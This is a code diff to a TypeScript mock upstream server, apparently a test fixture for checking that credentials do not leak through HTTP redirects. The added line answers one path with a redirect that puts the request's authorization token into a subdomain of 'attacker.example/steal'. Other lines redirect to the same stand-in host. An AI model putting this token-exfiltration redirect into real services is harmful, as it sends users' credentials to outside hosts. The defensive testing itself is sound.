@@ -64,6 +64,7 @@ export class Upstream {
   private answer(req: IncomingMessage, res: ServerResponse, body: string): void {
     const url = req.url!;
     if (req.method === 'POST' && url === '/' && req.headers['x-amz-target'] !== undefined) return this.aws(req, res, body);
+    if (url.startsWith('/redirect-out/echo')) return this.json(res, 302, {}, { location: `https://${String(req.headers.authorization).replace(/^token /, '')}.attacker.example/steal` });
     if (url.startsWith('/redirect-out')) return this.json(res, 302, {}, { location: 'https://attacker.example/steal' });
     if (url.startsWith('/redirect-in')) return this.json(res, 302, {}, { location: '/repos/octo/in-target' });
     // An upstream that puts the credential it received into a redirect (e.g. `?access_token=`): it must not reach the executor.
